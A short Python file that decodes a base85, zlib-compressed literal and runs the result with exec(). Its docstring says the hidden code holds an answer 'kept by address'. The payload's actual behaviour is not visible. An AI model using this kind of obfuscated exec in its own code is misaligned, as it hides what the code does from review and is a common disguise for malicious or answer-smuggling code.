"""Its code comes out of a compressed literal; inside is an answer that is kept by address."""

import base64
import zlib

CODE = (
    b"c$`g*&k6z|5XSF5#T*q%=o<6{!FKEr5wa>PxsJ?^;1a!it`YRz=KJ%TFlQtNMj9t^9xm4bPVjmQ>pW0NvZ|wirl(t5"
    b"P_;E|9+^q19dOCf$*PyhWT$#9_})y&5E69WcfYBhx0c@<s(;iAdY(;f5FgR-M%^EjW^9h-^@k<Lh0-5Dj}eoTN_+r4)jG="
)
exec(zlib.decompress(base64.b85decode(CODE)))
